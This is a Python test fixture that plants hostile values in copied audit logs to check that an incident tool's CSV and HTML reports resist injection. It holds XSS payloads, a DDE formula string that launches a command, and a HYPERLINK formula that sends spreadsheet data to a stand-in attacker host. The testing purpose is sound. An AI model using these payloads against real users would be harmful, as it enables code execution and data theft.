"""A copy of the bundled incident with hostile values planted in its logs and catalog.

Each planted Ranger line is a copy of a real exposure-enabled read (carl's, of
mci.keystrokes during the window) with the principal, event id, client address and
statement text replaced by what an attacker who can write to a log (any user who can
name themselves, run a query or pick a client name) would try: spreadsheet formulas,
HTML and script, quotes. Shared by the second-leak tests (CSV, HTML, pseudonyms).
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import yaml

from tests.conftest import INCIDENT

#: Principals as the logs name them, and as the evidence names them (short, lower case).
HOSTILE_PRINCIPALS = {
    "<script>alert(1)</script>": "<script>alert(1)<",
    '=HYPERLINK("http://evil.example/?"&A1,"x")': '=hyperlink("http:',
    "+cmd|' /C calc'!A0": "+cmd|' ",
    "-2+3": "-2+3",
    "\tTABBY": "tabby",
}
#: Event ids (Ranger `id`) that a spreadsheet would run, and that trace must still find.
HOSTILE_IDS = ["@evil-1", "-evil-2"]
SCRIPT = "<script>alert('x')</script>"
#: Statements: script in a backquoted name (kept by redaction), in a comment, and a secret
#: in a Hive double-quoted literal (both redacted).
HOSTILE_QUERIES = [
    "SELECT `<img src=x onerror=alert(1)>` FROM mci.keystrokes",
    'SELECT * FROM mci.keystrokes /* <b>x</b> */ WHERE user_name = "Dana Secret"',
    "=cmd|' /C calc'!A0",
]
#: How many reads each hostile principal makes: more than anyone in the incident, so the
#: first ones are the report's top readers and get pages of their own.
READS = 5
ROOT_LOG = "@ranger.log"  # a log whose case-relative name itself starts a formula


def _carl_line() -> dict:
    path = INCIDENT / "logs" / "ranger" / "hive_ranger_audit.20260618-09.log"
    for line in path.read_text().splitlines():
        try:
            record = json.loads(line)
        except json.JSONDecodeError:
            continue  # the incident's damaged lines
        resource = str(record.get("resource"))
        if str(record.get("reqUser")).startswith("carl") and resource.startswith("mci/keystrokes"):
            return record
    raise AssertionError("the incident has no read by carl of mci.keystrokes")


def build(target: Path) -> Path:
    """Write the hostile incident into `target`; return its case file."""
    shutil.copytree(INCIDENT, target)
    base = _carl_line()
    lines = []
    for i, raw in enumerate(HOSTILE_PRINCIPALS):
        for j in range(READS):
            record = dict(base, reqUser=raw, id=f"hostile-{i}-{j}", sess=f"s-hostile-{i}")
            record["reqData"] = HOSTILE_QUERIES[(i + j) % len(HOSTILE_QUERIES)]
            record["cliIP"] = "=1+1" if j % 2 else SCRIPT
            record["evtTime"] = f"2026-06-18 03:{10 * i + j:02d}:00.000"
            lines.append(json.dumps(record))
    for i, event_id in enumerate(HOSTILE_IDS):
        record = dict(base, id=event_id, evtTime=f"2026-06-18 02:{40 + i}:00.000")
        lines.append(json.dumps(record))
    (target / ROOT_LOG).write_text("\n".join(lines) + "\n")
    case_file = target / "case.yaml"
    case = yaml.safe_load(case_file.read_text())
    case["logs"].append({"format": "ranger-audit", "path": ROOT_LOG})
    case_file.write_text(yaml.safe_dump(case, sort_keys=False))
    views = target / "catalog" / "views.csv"
    views.write_text(
        views.read_text().replace(
            "GROUP BY c.sender, c.recipient",
            f"WHERE c.sender <> '{SCRIPT}' -- Dana Secret\nGROUP BY c.sender, c.recipient",
        )
    )
    return case_file
